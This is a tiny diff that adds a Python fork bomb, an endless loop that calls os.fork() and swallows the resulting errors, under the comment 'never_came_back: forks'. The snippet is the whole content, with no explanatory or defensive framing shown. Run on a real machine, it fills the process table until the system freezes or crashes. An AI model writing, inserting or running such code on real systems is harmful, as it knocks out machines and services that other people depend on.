@@ -1,0 +1,5 @@
+# never_came_back: forks
+
+while True:
+  try: os.fork()
+  except OSError: pass
